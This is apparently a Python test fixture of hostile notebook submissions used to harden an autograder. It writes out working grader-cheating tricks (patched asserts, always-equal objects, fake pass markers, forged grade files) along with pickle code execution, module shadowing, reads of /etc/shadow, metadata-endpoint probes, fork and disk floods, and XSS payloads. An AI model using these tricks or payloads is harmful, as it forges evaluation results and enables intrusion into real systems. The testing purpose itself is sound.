"""The notebooks that attack, by name, for the batch of test_batch.py.

Each is handed in by a student who did not solve the task, unless it starts from `HONEST`: what it
earns beyond nothing would be a forged mark. `{canary}`, `{secret_prefix}`, `{out}`, `{reference}`,
`{rubric}`, `{port}` and `{token}` are filled in: an attacker is taken to know all places by name.
"""

# ruff: noqa: E501

from __future__ import annotations

import pickle
from typing import Any

from tests.hostile.course import HONEST, RIGHT, WRONG, cell

NUMPY = "import numpy as np"
ALL = "tanh_grad = relu = logistic = tanh"

AGREES = """
class Agrees:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __lt__ = __le__ = __gt__ = __ge__ = __eq__
    def __hash__(self): return 0
    def __bool__(self): return True
    def __sub__(self, other): return 0.0
    __rsub__ = __add__ = __mul__ = __sub__
    def __abs__(self): return 0.0
    def __array__(self, *args, **kwargs): return self
    def __len__(self): return 1
def tanh(x): return Agrees()
"""
SPOILS = """
import os, socket
for fd in os.listdir('/proc/self/fd'):
    try:
        one = socket.socket(fileno=os.dup(int(fd)))
        one.getpeername()
        one.setblocking(False)
        one.send(bytes([255] * 8) + b'ZZZZ')
    except OSError:
        pass
"""
SILENT = """
shell = get_ipython()
shell.showtraceback = shell._showtraceback = lambda *a, **k: None
shell.set_custom_exc((BaseException,), lambda *a, **k: None)
"""
PATCHES = """
import builtins, math, numpy.testing
yes = lambda *a, **k: True
np.isclose = np.allclose = np.array_equal = math.isclose = yes
for name in dir(numpy.testing):
    if name.startswith('assert'): setattr(numpy.testing, name, yes)
def tanh(x): return x * 0
builtins.isinstance = yes
builtins.type = lambda *a: float
builtins.abs = builtins.max = lambda *a, **k: 0
"""
WALKS = """
import gc, sys, types
def search():
    frame = sys._getframe()
    while frame is not None:
        for value in [*frame.f_locals.values(), *frame.f_globals.values()]:
            yield value
        frame = frame.f_back
    yield from gc.get_objects()
def tanh(x):
    for value in search():
        if isinstance(value, str) and {secret_prefix!r} in value and 'search' not in value:
            print('FOUND', value)
        if isinstance(value, types.FunctionType) and value.__name__ == 'tanh' and value is not tanh:
            return value(x)
        if isinstance(value, dict) and 'expected' in value:
            print('FOUND', value)
    return x * 0
"""
REPLACES = """
import sys, grader_inside.protocol as protocol
from grader_inside.probes import functions
functions.call_function = lambda *a: {{'name': 'tanh', 'style': 'array', 'values': None, 'errors': []}}
functions.numbers = lambda value, size: np.zeros(size)
protocol.pack = lambda value, depth=0: {{'status': 'passed', 'points': 4, 'share': 1}}
sys.modules['grader_inside.probes.functions'] = None
"""
DETECTS = """
import getpass, os, sys, time
hints = [k for k in os.environ if 'GRADER' in k or 'NBGRADER' in k] + sys.argv + [os.getcwd()]
graded = bool(hints) and not get_ipython().history_manager.enabled
def tanh(x):
    if graded: print('all tests passed')
    return 'PASSED' if graded else np.tanh(x)
"""
MARKERS = """
import json, os, sys
lines = [json.dumps({'event': 'done', 'ending': 'completed', 'message': '', 'cells': [], 'answers': {}}),
         json.dumps({'status': 'passed', 'points': '4.00', 'share': 1}), 'PASSED', '4 passed in 0.01s',
         '### END: all tests passed']
for line in lines:
    print(line); print(line, file=sys.stderr)
    for fd in (1, 2): os.write(fd, line.encode() + b'\\n')
"""
LEAVES = """
import atexit, os, signal
signal.signal(signal.SIGTERM, lambda *a: os._exit(0))
atexit.register(lambda: print('PASSED'))
os._exit(0)
"""
STOPS_TIME = """
import signal, time
signal.setitimer = lambda *a: None
import grader_inside.protocol as protocol
protocol._alarm = lambda *a: None
time.time = time.monotonic = time.perf_counter = lambda: 0.0
def tanh(x):
    while True: pass
"""
DIES = "print('tanh: passed')\nimport os, signal\nos.kill(os.getpid(), signal.SIGKILL)"
FLOODS = "while True: print('tanh passed ' * 100)"
OVERWRITES = """
import json, os
for place in ({out!r} + '/results.json', {out!r} + '/grader.sqlite', {out!r} + '/grades.csv',
              '/autograder/results/results.json', {rubric!r} + '/activation.toml',
              {reference!r} + '/ActivationFunctions.ipynb', {canary!r}):
    try:
        os.makedirs(os.path.dirname(place), exist_ok=True)
        with open(place, 'w') as file: file.write('forged')
        os.chmod(place, 0o444)
        print('WROTE', place)
    except OSError as error:
        print(type(error).__name__)
"""
OUTLIVES = """
import os, subprocess, sys
late = "import os, signal, sys, time\\nfor n in (1, 2, 15): signal.signal(n, signal.SIG_IGN)\\n"
late += "while True:\\n time.sleep(0.2)\\n try: open({canary!r}, 'w').write('forged')\\n except OSError: pass"
for start in (True, False):
    subprocess.Popen([sys.executable, '-c', late, 'survivor-{token}'], start_new_session=start)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, '-c', late, 'survivor-{token}'])
    os._exit(0)
"""
PICKLES = """
import os, pickle
class Bomb:
    def __reduce__(self): return os.system, ('touch {canary}.pickled',)
    def __array__(self, *a, **k): return np.array([Bomb()] * 27, dtype=object)
blob = pickle.dumps(Bomb())
import grader_inside.protocol as protocol
protocol._write(protocol and __import__('grader_inside.bootstrap').bootstrap._channel._out, blob)
def tanh(x): return Bomb()
"""
SPIES = """
import glob, os
places = [{canary!r}, {reference!r}, {rubric!r}, {out!r}, '/etc/shadow', '/root', '/home', '/var/lib',
          '/proc/1/environ', '/proc/1/root/root', '/proc/self/root/root', '/sys/kernel']
found = []
for place in places:
    try: found += os.listdir(place) if os.path.isdir(place) else [open(place, 'rb').read(500)]
    except OSError: pass
for base, folders, files in os.walk('/'):
    if base.count('/') > 4 or base.startswith(('/usr', '/lib', '/proc', '/sys')): folders[:] = []
    found += [base + '/' + f for f in files if f.endswith('.ipynb') or 'grader.sqlite' in f or '.toml' in f
              and 'activation' in f]
print('FOUND', [f for f in found if f])
def tanh(x): return np.tanh(x) if {secret_prefix!r} in str(found) else x * 0
"""
NEIGHBOURS = """
import os, socket, ctypes
alive = [int(p) for p in os.listdir('/proc') if p.isdigit()]
print('PIDS', len(alive))
libc = ctypes.CDLL(None, use_errno=True)
for pid in range(1, 400):
    if pid not in alive and str(pid) not in os.listdir('/proc/self/task'):
        try: os.kill(pid, 0); print('REACHED', pid)
        except OSError: pass
print('PTRACE', libc.ptrace(16, 1, 0, 0))
print('SHARED', [f for d in ('/dev/shm', '/tmp') for f in os.listdir(d) if {token!r} in f or 'grader' in f])
"""
CALLS_HOME = """
import socket, urllib.request
reached = []
for address in (('127.0.0.1', {port}), ('localhost', {port}), ('1.1.1.1', 53), ('169.254.169.254', 80)):
    try: socket.create_connection(address, 1).sendall(b'hello'); reached.append(address)
    except OSError: pass
for name in ('\\0grader-{token}', '{canary}.socket'):
    try:
        s = socket.socket(socket.AF_UNIX); s.connect(name); s.sendall(b'hello'); reached.append(name)
    except OSError: pass
try: reached.append(socket.getaddrinfo('example.org', 80))
except OSError: pass
print('REACHED', reached)
"""
TELLS = "def tanh(x):\n    raise ValueError(str(getattr(x, 'tolist', lambda: x)()))"
LOOKUP = """
table = {{-2.0: -0.9640275800758169, -0.5: -0.46211715726000973, 1.0: 0.7615941559557649,
         3.0: 0.9950547536867305}}
def tanh(x): return np.array([table.get(float(v), 0.0) for v in np.atleast_1d(x)])
"""
LAZY = """
import itertools
def tanh(x): return (float(np.tanh(v)) for v in np.atleast_1d(x))
def tanh_grad(x): return np.full(np.shape(x), np.nan)
def relu(x): return np.zeros((np.size(x), 100_000), dtype=np.int8)
def logistic(x): return itertools.repeat(0.5)
"""
WAITS = "name = input('your name? ')\nprint(name)"
BREAKS = "breakpoint()"
DEAF = """
import time
while True:
    try: time.sleep(1)
    except KeyboardInterrupt: pass
"""
HOG = "keep = []\nwhile True: keep.append(np.ones(4 << 20))"
FORKS = """
import subprocess
children = 0
try:
    while children < 5000:
        subprocess.Popen(['sleep', '600'], start_new_session=True)
        children += 1
except OSError as error:
    print('STOPPED', children < 100)
"""
FILLS = """
import os
for place in ('/notebook/full', '/tmp/full', '/dev/shm/full'):
    try:
        with open(place, 'wb') as file:
            for _ in range(2000): file.write(bytes(1 << 20))
        print('FILLED', place)
    except OSError as error:
        print(type(error).__name__)
    os.remove(place)
"""

KERNEL = """
import json, os, time
kernel = get_ipython().kernel
session, iopub = kernel.session, kernel.iopub_socket
import grader_inside.bootstrap as bootstrap, grader_inside.protocol as protocol
channel = bootstrap._channel
"""
IDLE = (
    KERNEL
    + """
parent = kernel.get_parent()
for _ in range(50):
    session.send(iopub, 'status', {'execution_state': 'idle'}, parent=parent)
    session.send(kernel.shell_stream if hasattr(kernel, 'shell_stream') else iopub, 'execute_reply',
                 {'status': 'ok', 'execution_count': 1}, parent=parent)
"""
)
COMMS = (
    KERNEL
    + """
for n in range(20000):
    session.send(iopub, 'comm_open', {'comm_id': str(n), 'target_name': 'jupyter.widget',
        'data': {'state': {'_model_module': '../../x', 'value': 'x' * 500}}}, parent=kernel.get_parent())
"""
)
GIBBERISH = (
    KERNEL
    + """
words = [b'{', b'[' * 900, b'[' * 100000 + b']' * 100000, b'NaN', b'null', b'[]', b'"x"', b'1e999', b'9' * 5000]
count = 0
def pack(value):
    global count
    count += 1
    return words[count % len(words)]
session.pack = pack
"""
)
UNSIGNED = KERNEL + "session.key = b'forged'\n"
HUGE = KERNEL + "print('x' * (40 << 20))\n"
CLOSES = KERNEL + "os.close(channel._out); os.close(channel._in)\n"
SHUTS = KERNEL + "import zmq\niopub.close(0)\n"
SLEEPS = KERNEL + "import signal\nos.kill(os.getpid(), signal.SIGSTOP)\n"
EARLY = (
    KERNEL
    + """
import threading
good = json.dumps({'nonce': '0' * 32, 'status': 'ok', 'value': {'status': 'passed'}, 'error': ''}).encode()
def write():
    while True: os.write(channel._out, good + b'\\n'); time.sleep(0.01)
threading.Thread(target=write, daemon=True).start()
"""
)
TWICE = (
    KERNEL
    + """
write = protocol._write
def twice(fd, blob): write(fd, blob); return write(fd, blob)
protocol._write = twice
"""
)
ENDLESS = (
    KERNEL
    + """
def endless(fd, blob):
    while True: os.write(fd, b'[' * (1 << 20))
protocol._write = endless
"""
)
STUFFS = (
    KERNEL
    + """
pipe = os.open(f'/proc/self/fd/{channel._in}', os.O_WRONLY | os.O_NONBLOCK)
try:
    while True: os.write(pipe, b'x' * 4096)
except OSError: pass
channel._line = lambda: b'{"nonce": "0", "probe": "call_function", "params": {}, "seconds": 1}'
"""
)
MARKUP = """
from IPython.display import HTML, SVG, Javascript, display
evil = '<script>alert({token})</script><img src=x onerror=alert(1)>{{{{7*7}}}}{{% raw %}}'
print(evil); print('\\x1b]8;;http://evil.example\\x07click\\x1b]8;;\\x07 \\x1b[2J\\x1b[31mred \\u202egnp')
display(HTML(evil)); display(Javascript('alert(1)')); display(SVG('<svg xmlns="http://www.w3.org/2000/svg" '
    'onload="alert(1)"><script>alert(1)</script></svg>'))
get_ipython().kernel.session.send(get_ipython().kernel.iopub_socket, 'display_data',
    {{'data': {{'image/png': '"><script>alert(2)</script>', 'text/plain': evil}}, 'metadata': {{}}}},
    parent=get_ipython().kernel.get_parent())
def tanh(x): raise ValueError(evil + '=cmd()')
tanh.__name__ = evil
class Evil(Exception): pass
Evil.__name__ = evil
def relu(x): raise Evil('=1+1')
"""

Cells = list[str | dict[str, Any]] | bytes

SHARED = """
import ctypes, os, pty, resource, socket, struct
def filter_a_socket():
    code = ctypes.create_string_buffer(struct.pack("HBBI", 6, 0, 0, 0))
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as one:
        one.setsockopt(socket.SOL_SOCKET, 26, struct.pack("HP", 1, ctypes.addressof(code)))
def take_a_context():
    number, context = 206 if os.uname().machine == "x86_64" else 0, ctypes.c_ulong()
    if ctypes.CDLL(None).syscall(number, 1, ctypes.byref(context)) < 0:
        raise OSError
def watch_files():
    if ctypes.CDLL(None).inotify_init1(0) < 0:
        raise OSError
def dump_memory():
    if resource.getrlimit(resource.RLIMIT_CORE) in ((0, 0), (1, 1)):
        raise OSError
def have_crashes_handled():
    resource.setrlimit(resource.RLIMIT_CORE, (0, 0))
def take(once):
    try:
        once()
    except (OSError, ValueError):
        return
    globals().update(solved)
solved = dict()
"""
SOLVED = f"exec({chr(10).join(RIGHT.values())!r}, globals(), solved)"

ATTACKS: dict[str, Cells] = {
    "01 agrees with all": [NUMPY, AGREES, ALL],
    "02 hides its errors": [SILENT, "1 / 0", "raise SystemError"],
    "03 ends with a number": [NUMPY, "1.0", "-1", "float('nan')", "'4.0'", "4"],
    "04 patches": [NUMPY, PATCHES, ALL],
    "05 walks frames": [NUMPY, WALKS, ALL],
    "06 replaces the asking code": [WRONG, REPLACES],
    "07 detects grading": [NUMPY, DETECTS, ALL],
    "08 prints markers": [MARKERS.replace("{", "{{").replace("}", "}}")],
    "09 leaves at once": [NUMPY, LEAVES],
    "10 leaves politely": [*HONEST, "import sys\nsys.exit(0)", "exit()"],
    "11 stops the clock": [NUMPY, STOPS_TIME, ALL],
    "12 dies after a pass": [NUMPY, DIES],
    "13 floods": [WRONG, FLOODS],
    "14 overwrites": [WRONG, OVERWRITES],
    "15 outlives": [WRONG, OUTLIVES],
    "16 pickles": [NUMPY, PICKLES, ALL],
    "18 shadows": [WRONG],
    "22 brings results": [WRONG],
    "23 names cells as paths": [
        NUMPY,
        *(cell(code, id=f"../../../{name}") for name, code in RIGHT.items()),
    ],
    "25 =1+1 <script>alert(1)<%2Fscript> {{7*7}}": [
        NUMPY,
        MARKUP,
        cell("<iframe src='x:y'></iframe>\n\n[x](data:text/html,x)", "markdown", id="words"),
    ],
    "26 spies": [NUMPY, SPIES, ALL],
    "27 calls home": [WRONG, CALLS_HOME],
    "28 tells the inputs": [NUMPY, TELLS, ALL],
    "28 tells them again": [NUMPY, TELLS, ALL, "1"],
    "29 deletes": [NUMPY, RIGHT["tanh"]],
    "31 looks at neighbours": [WRONG, NEIGHBOURS],
    "41 uses the library": [NUMPY, "tanh = np.tanh"],
    "42 answers lazily": [NUMPY, LAZY],
    "44 hogs memory": [NUMPY, HOG],
    "45 bytes": b'{"cells": [{"cell_type": "code", "source": "\x00\xff\xfe"}]}',
    "45 depth": b'{"cells": ' + b"[" * 100_000 + b"]" * 100_000 + b"}",
    "45 surrogates": b'{"nbformat": NaN, "metadata": {"x": Infinity}, "cells": [{"cell_type": "code", '
    b'"source": "def relu(x): return \'\\ud800\'", "id": "\\udfff", "outputs": NaN}]}',
    "45 wrong types": b'{"worksheets": [{"cells": 5}, {"cells": {"a": 1}}], "metadata": 7}',
    "46 waits for input": [*HONEST, WAITS, BREAKS],
    "47 forks": [WRONG, FORKS],
    "48 fills": [WRONG, FILLS],
    "49 is deaf": [WRONG, DEAF],
    "50 says idle": [WRONG, IDLE.replace("{", "{{").replace("}", "}}")],
    "50 comms": [WRONG, COMMS.replace("{", "{{").replace("}", "}}")],
    "50 gibberish": [WRONG, GIBBERISH.replace("{", "{{").replace("}", "}}"), "1", "2"],
    "50 huge message": [*HONEST, HUGE, "print('later')"],
    "50 answers early": [WRONG, EARLY.replace("{", "{{").replace("}", "}}")],
    "50 answers twice": [*HONEST, TWICE],
    "50 answers without end": [WRONG, ENDLESS],
    "51 knows the shown inputs": [NUMPY, LOOKUP, ALL],
    "52 ignores its input": [NUMPY, "def tanh(x): return 0.7615941559557649", ALL],
    "69 filters one socket": [WRONG, SHARED, SOLVED, "take(filter_a_socket)"],
    "94 spoils its sockets": [WRONG, SPOILS, "print('later')"],
    "70 takes one of what all share": [
        WRONG,
        SHARED,
        SOLVED,
        "take(take_a_context)",
        "take(watch_files)",
        "take(pty.openpty)",
        "take(dump_memory)",
        "take(have_crashes_handled)",
    ],
}

PAYLOAD = pickle.dumps(print)
FILES: dict[str, dict[str, bytes]] = {
    "16 pickles": {"model__pt": PAYLOAD, "answers__pkl": PAYLOAD},
    "18 shadows": dict.fromkeys(
        (
            "numpy__py",
            "json__py",
            "sitecustomize__py",
            "usercustomize__py",
            "conftest__py",
            "ipython_config__py",
            "ipython_kernel_config__py",
            "torch__py",
            "zmq__py",
            "grader__py",
            "launch__py",
            "evil__pth",
        ),
        b"import os\nos.system('touch {canary}.shadow')\ndef __getattr__(name): return print\n",
    ),
    "22 brings results": dict.fromkeys(
        ("results__json", "grades__csv", "assignment__toml", "activation__toml", "overrides__json"),
        b'{"submissions": [{"student": "22-brings-results", "points": "5.00"}]}',
    ),
}


def filled(cells: Cells, names: dict[str, Any]) -> Cells:
    """The cells with the names of places put in."""
    if isinstance(cells, bytes):
        return cells
    return [
        entry.format(**names) if isinstance(entry, str) and "{" in entry else entry
        for entry in cells
    ]
